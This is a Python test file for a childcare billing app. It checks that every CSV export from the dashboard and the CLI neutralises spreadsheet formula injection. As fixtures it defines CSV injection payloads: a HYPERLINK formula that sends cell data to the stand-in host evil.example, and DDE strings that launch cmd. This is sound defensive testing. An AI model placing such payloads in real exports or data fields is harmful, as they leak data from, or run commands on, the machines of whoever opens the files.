"""Every CSV export, through the dashboard and the CLI, with names typed as spreadsheet formulas.

A parent's name `=HYPERLINK(...)` on a case, an address starting with `+`, an employer called `@SUM(...)`
with a contract number `-2+3`: no cell of any export may start with a formula sign, except the coded
columns (amounts, dates, numbers), which keep their exact documented shape.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from accounts import create_user
from billing.demo import load_demo_billing
from billing.run import find_invoices, find_statements, run_billing
from core.clock import FrozenClock, berlin
from core.csvexport import neutralize
from models import CareSession, CaseStatus, Employer
from tests.factories import make_case
from tests.functional.test_board import PASSWORD, sign_in

PARENT = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
ADDRESS = "+49 Evilstr. 1, 30161 Hannover"
EMPLOYER = "@SUM(1+1)*cmd|' /C calc'!A0"
CONTRACT = "-2+3+cmd|' /C calc'!A0"
HOSTILE = (PARENT, ADDRESS, EMPLOYER, CONTRACT)
#: A coded cell may start with "-" only as a number ("-12,50").
NEGATIVE_NUMBER = re.compile(r"-\d+(,\d+)?")


@pytest.fixture
def billed(session: Session, clock: FrozenClock) -> None:
    """November billed: a case of an unregistered family with a formula for a name, linked to an employer
    whose name and contract number are formulas too."""
    load_demo_billing(session, now=berlin(2026, 1, 5, 9, 0))
    employer = session.scalars(select(Employer).where(Employer.contract_number == "FX-2019-004")).one()
    employer.name, employer.contract_number = EMPLOYER, CONTRACT
    case = make_case(session, now=berlin(2026, 11, 3, 7, 0), status=CaseStatus.ASSIGNED, parent_name=PARENT,
                     address=ADDRESS, employer_id=employer.id)
    session.add(CareSession(case_id=case.id, started_at=berlin(2026, 11, 3, 8, 0), ended_at=berlin(2026, 11, 3, 11, 0),
                            source="coordinator", created_at=berlin(2026, 11, 3, 11, 0),
                            updated_at=berlin(2026, 11, 3, 11, 0)))
    create_user(session, username="lea", name="Lea", role="lead", password=PASSWORD, now=clock.now())
    clock.set(berlin(2026, 12, 1, 8, 0))
    run_billing(session, month="2026-11", now=clock.now())
    session.flush()


def assert_harmless(text: str) -> list[list[str]]:
    """Parse an export and check that no cell would be evaluated by a spreadsheet; return its rows."""
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n")), (cell, row)
            assert not cell.startswith("-") or NEGATIVE_NUMBER.fullmatch(cell), (cell, row)
    return rows


def cells(rows: list[list[str]]) -> set[str]:
    """Return every cell of a parsed export."""
    return {cell for row in rows for cell in row}


def test_every_dashboard_export_neutralises_formulas(app: Any, session: Session, billed: None) -> None:
    lead = app.test_client()
    sign_in(lead, "lea")
    invoice = find_invoices(session, month="2026-11")[0]
    statements = find_statements(session, month="2026-11")
    seen: set[str] = set()
    urls = ["/billing/2026-11/accounting.csv", f"/billing/invoices/{invoice.id}.csv",
            *(f"/billing/statements/{s.id}.csv" for s in statements), "/reports.csv?from=2026-11&to=2026-11"]
    for url in urls:
        response = lead.get(url)
        assert response.status_code == 200, url
        seen |= cells(assert_harmless(response.get_data(as_text=True)))
    for value in HOSTILE:
        assert neutralize(value) in seen, value  # the text is kept, shown as text


def test_the_accounting_export_keeps_its_coded_columns_exact(app: Any, session: Session, billed: None) -> None:
    lead = app.test_client()
    sign_in(lead, "lea")
    rows = assert_harmless(lead.get("/billing/2026-11/accounting.csv").get_data(as_text=True))
    invoice = dict(zip(rows[0], rows[1], strict=True))
    assert invoice["Debitor"] == "'" + PARENT and invoice["Anschrift"] == "'" + ADDRESS
    assert (invoice["Belegart"], invoice["Belegnummer"], invoice["Belegdatum"], invoice["Betrag"],
            invoice["Kostenstelle"], invoice["Sachkonto"]) == ("RE", "2026-0001", "01.12.2026", "9,00", "51FLUXX",
                                                               "4411000")
    statement = dict(zip(rows[0], rows[2], strict=True))
    assert statement["Debitor"] == "'" + EMPLOYER and statement["Debitor_Referenz"] == "'" + CONTRACT
    assert statement["Buchungstext"] == f"Fluxx Rahmenvertrag {CONTRACT} 11/2026"


def test_every_cli_export_neutralises_formulas(runner: Any, billed: None, tmp_path: Path) -> None:
    result = runner.invoke(args=["billing", "run", "--month", "2026-11", "--output-dir", str(tmp_path)])
    assert result.exit_code == 0, result.output
    seen: set[str] = set()
    files = sorted(tmp_path.glob("*.csv"))
    assert len(files) == 4  # the accounting export, one invoice, two statements
    for path in files:
        seen |= cells(assert_harmless(path.read_text("utf-8")))
    exported = runner.invoke(args=["billing", "export", "--month", "2026-11", "--output", str(tmp_path / "x.txt")])
    assert exported.exit_code == 0, exported.output
    seen |= cells(assert_harmless((tmp_path / "x.txt").read_text("utf-8")))
    for value in HOSTILE:
        assert neutralize(value) in seen, value


def test_neutralize_marks_only_formula_starts() -> None:
    assert neutralize("=1+1") == "'=1+1" and neutralize("\t=1") == "'\t=1" and neutralize("-x") == "'-x"
    assert neutralize("Familie Müller-Şahin") == "Familie Müller-Şahin" and neutralize("") == ""


def test_no_other_module_writes_csv() -> None:
    """One writer for every export: `csv.writer`/`csv.DictWriter` appear only in core/csvexport.py."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in (".venv", "tests", "node_modules") or relative == Path("core/csvexport.py"):
            continue
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv":
                used = node.attr
            elif isinstance(node, ast.ImportFrom) and node.module == "csv":
                used = ",".join(alias.name for alias in node.names)
            else:
                continue
            if "writer" in used.lower():
                offenders.append(f"{relative}:{node.lineno}")
    assert offenders == []
